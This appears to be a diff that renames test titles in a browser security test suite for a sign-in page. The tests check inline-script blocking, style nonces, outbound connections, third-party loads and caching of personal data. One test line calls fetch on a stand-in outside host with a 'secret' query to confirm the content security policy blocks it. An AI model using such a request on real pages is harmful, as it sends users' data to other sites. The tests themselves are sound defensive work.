@@ -2,7 +2,7 @@ import { apiPaths } from '#shared/api-paths';
 import { signIn } from './screens.ts';
 import { expect, test } from './test.ts';
 
-test('the page takes no script from a text', async ({ page, complaints }) => {
+test('the page runs no inline script', async ({ page, complaints }) => {
   await page.goto('/sign-in');
 
   const attempt = page.evaluate(() => {
@@ -13,7 +13,7 @@ test('the page takes no script from a text', async ({ page, complaints }) => {
   await expectViolation(complaints, 'require-trusted-types-for');
 });
 
-test('the page takes no style without its nonce', async ({ page, complaints }) => {
+test('the page applies no style without its nonce', async ({ page, complaints }) => {
   await page.goto('/sign-in');
 
   await page.evaluate(() => {
@@ -26,7 +26,7 @@ test('the page takes no style without its nonce', async ({ page, complaints }) =
   await expect(page.getByRole('heading')).toBeVisible();
 });
 
-test('the page sends nothing elsewhere', async ({ page, complaints }) => {
+test('the page sends nothing to other sites', async ({ page, complaints }) => {
   await page.goto('/sign-in');
 
   const attempt = page.evaluate(() => fetch('https://elsewhere.example/?secret'));
@@ -35,7 +35,7 @@ test('the page sends nothing elsewhere', async ({ page, complaints }) => {
   await expectViolation(complaints, 'connect-src');
 });
 
-test('the page loads nothing from elsewhere', async ({ page, account, system }) => {
+test('the page loads nothing from other sites', async ({ page, account, system }) => {
   const origins = new Set<string>();
   page.on('request', (request) => origins.add(new URL(request.url()).origin));
 
@@ -44,7 +44,7 @@ test('the page loads nothing from elsewhere', async ({ page, account, system }) 
   expect([...origins]).toEqual([system.url]);
 });
 
-test('answers with personal data are kept by no cache', async ({ page, account }) => {
+test('no cache stores responses with personal data', async ({ page, account }) => {
   const answer = page.waitForResponse((response) => response.url().endsWith(apiPaths.me));
 
   await signIn(page, account);
